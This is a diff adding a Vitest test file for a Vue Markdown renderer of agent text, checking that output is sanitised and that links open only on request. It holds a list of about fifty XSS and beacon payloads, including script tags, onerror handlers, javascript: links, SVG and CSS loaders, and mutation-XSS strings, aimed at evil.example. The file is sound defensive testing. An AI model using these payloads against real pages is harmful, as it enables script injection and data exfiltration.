@@ -1,0 +1,149 @@
+// @vitest-environment happy-dom
+import { mount } from '@vue/test-utils'
+import { describe, expect, it, vi } from 'vitest'
+import { askToOpenKey } from '../../../src/renderer/markdown/linkOpening'
+import MarkdownText from '../../../src/renderer/markdown/MarkdownText.vue'
+import { StreamingMarkdown } from '../../../src/renderer/markdown/streamingMarkdown'
+
+const beacon = 'https://evil.example/beacon'
+const payloads = [
+  `<script>fetch('${beacon}')</script>`,
+  `<img src=x onerror="fetch('${beacon}')">`,
+  `<img src="${beacon}">`,
+  `<svg onload="fetch('${beacon}')"></svg>`,
+  `<svg><image href="${beacon}"/></svg>`,
+  `<svg><script href="${beacon}"/></svg>`,
+  `<svg><use href="${beacon}#a"/></svg>`,
+  `<svg><animate onbegin="fetch('${beacon}')" attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
+  `<iframe src="${beacon}"></iframe>`,
+  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+  `<object data="${beacon}"></object>`,
+  `<embed src="${beacon}">`,
+  `<link rel=stylesheet href="${beacon}">`,
+  `<style>@import '${beacon}'; body { background: url(${beacon}) }</style>`,
+  `<div style="background: url(${beacon})">x</div>`,
+  `<meta http-equiv=refresh content="0;url=${beacon}">`,
+  `<base href="${beacon}">`,
+  `<form action="${beacon}"><input name=a><button>go</button></form>`,
+  `<button formaction="${beacon}">x</button>`,
+  `<video src="${beacon}" poster="${beacon}" autoplay></video>`,
+  `<audio src="${beacon}" autoplay></audio>`,
+  `<video><source onerror="fetch('${beacon}')"></video>`,
+  `<details open ontoggle="fetch('${beacon}')">x</details>`,
+  `<input autofocus onfocus="fetch('${beacon}')">`,
+  `<body onload="fetch('${beacon}')">`,
+  `<a href="javascript:alert(1)">x</a>`,
+  `<a href="${beacon}" ping="${beacon}">x</a>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+  `<template><script>alert(1)</script></template>`,
+  `<table background="${beacon}"><tr><td background="${beacon}">x</table>`,
+  `![x](${beacon})`,
+  `![x][r]\n\n[r]: ${beacon}`,
+  `![x](${beacon} "onerror=alert(1)")`,
+  `[x](javascript:alert(1))`,
+  `[x](JaVaScRiPt&colon;alert(1))`,
+  `[x](data:text/html,<script>alert(1)</script>)`,
+  `[x](vbscript:msgbox(1))`,
+  `[x](file:///etc/passwd)`,
+  `[x](smb://evil.example/share)`,
+  `[x](ms-msdt:/id)`,
+  `[x](https://user:password@evil.example/)`,
+  `<javascript:alert(1)>`,
+  `[x]("onmouseover="alert(1)" )`,
+  '```"><img src=x onerror=alert(1)>\ncode\n```',
+  '```ts\n</code></pre><img src=x onerror=alert(1)>\n```',
+  '- ```html"><script>alert(1)</script>\n  x\n  ```',
+  `| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:1) | ![](${beacon}) |`,
+  `&lt;script&gt;alert(1)&lt;/script&gt;`,
+  `{{ constructor.constructor('alert(1)')() }}`,
+]
+
+describe('agent text', () => {
+  it.each(payloads)('becomes nothing that runs, loads or leads astray: %s', async (payload) => {
+    const wrapper = mount(MarkdownText, { props: { text: '' } })
+    for (let end = 0; end <= payload.length + 7; end += 7)
+      await wrapper.setProps({ text: payload.slice(0, end) })
+    expectHarmless(wrapper.element)
+  })
+
+  it.each(payloads)('is harmless even before it is sanitised: %s', (payload) => {
+    for (const block of new StreamingMarkdown().update(payload)) {
+      const box = document.createElement('div')
+      box.innerHTML = block.kind === 'html' ? block.html : ''
+      expectHarmless(box)
+    }
+  })
+
+  it('keeps what Markdown means', () => {
+    const blocks = new StreamingMarkdown().update('# Title\n\n- **a**\n- `b`\n\n| x |\n|--:|\n| 1 |\n\nE = $mc^2$')
+    expect(blocks.map(block => block.kind === 'html' && block.html)).toEqual([
+      '<h1>Title</h1>\n',
+      '<ul>\n<li><strong>a</strong></li>\n<li><code>b</code></li>\n</ul>\n',
+      expect.stringMatching(/^<div class="scroll"><table>[\s\S]*<td align="right">1[\s\S]*<\/table><\/div>\n$/),
+      '<p>E = $mc^2$</p>\n',
+    ])
+  })
+
+  it('opens a web link only by asking, with its whole address', async () => {
+    const askToOpen = vi.fn()
+    const wrapper = mount(MarkdownText, {
+      props: { text: 'See:\n\n- [docs](https://example.com/a?b=c)' },
+      global: { provide: { [askToOpenKey as symbol]: askToOpen } },
+    })
+    const link = wrapper.get('a')
+    expect(link.attributes()).toMatchObject({ href: 'https://example.com/a?b=c', rel: 'noopener noreferrer' })
+    const click = new MouseEvent('click', { bubbles: true, cancelable: true })
+    link.element.dispatchEvent(click)
+    expect(click.defaultPrevented).toBe(true)
+    expect(askToOpen).toHaveBeenCalledWith('https://example.com/a?b=c')
+  })
+
+  it('shows characters that turn the reading order in code', () => {
+    expect(mount(MarkdownText, { props: { text: '```\naccess\u202E// admin\n```' } }).text()).toContain('access⟨U+202E⟩// admin')
+  })
+})
+
+const harmlessTags = [
+  'P',
+  'BR',
+  'HR',
+  'H1',
+  'H2',
+  'H3',
+  'H4',
+  'H5',
+  'H6',
+  'UL',
+  'OL',
+  'LI',
+  'BLOCKQUOTE',
+  'PRE',
+  'CODE',
+  'EM',
+  'STRONG',
+  'S',
+  'A',
+  'TABLE',
+  'THEAD',
+  'TBODY',
+  'TR',
+  'TH',
+  'TD',
+  'DIV',
+  'SPAN',
+  'HEADER',
+  'BUTTON',
+]
+
+function expectHarmless(root: Element): void {
+  for (const element of root.querySelectorAll('*')) {
+    expect(harmlessTags).toContain(element.tagName.toUpperCase())
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^(src|srcset|srcdoc|style|action|formaction|ping|poster|background|data|xlink:href)$/)
+      if (name === 'href')
+        expect(value).toMatch(/^https?:\/\/(?!.*@)|^mailto:/)
+    }
+  }
+}
